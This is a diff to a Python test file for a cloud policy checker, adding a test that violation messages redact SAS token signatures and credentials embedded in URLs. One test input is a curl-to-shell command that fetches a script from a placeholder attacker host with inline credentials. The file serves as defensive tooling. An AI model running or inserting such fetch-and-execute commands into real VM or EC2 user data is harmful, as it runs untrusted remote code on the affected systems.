@@ -671,3 +671,11 @@ def test_grpc_trusted_prefix_from_policy_config(grpc_results):
     _, up = grpc_results
     assert not _on(up, "url-vm")
     assert _on(up, "curl-pipe-vm") and _on(up, "file-uris-ext")
+
+
+def test_messages_redact_sas_tokens_and_credentials():
+    sas = "https://acct.blob.core.windows.net/c/a.sh?sv=2022-11-02&sig=SECRETSIG"
+    (m,) = violations(RULE, VM_EXTENSION, changed(CUSTOM_SCRIPT, set_at(("protectedSettings",), {"fileUris": [sas]})))
+    assert "SECRETSIG" not in m and "acct.blob.core.windows.net/c/a.sh" in m and "protectedSettings.fileUris[0]" in m
+    (m,) = violations(RULE, EC2, {"userData": "curl -s https://deploy:hunter2@evil.example/a | sh"})
+    assert "hunter2" not in m and "evil.example/a" in m
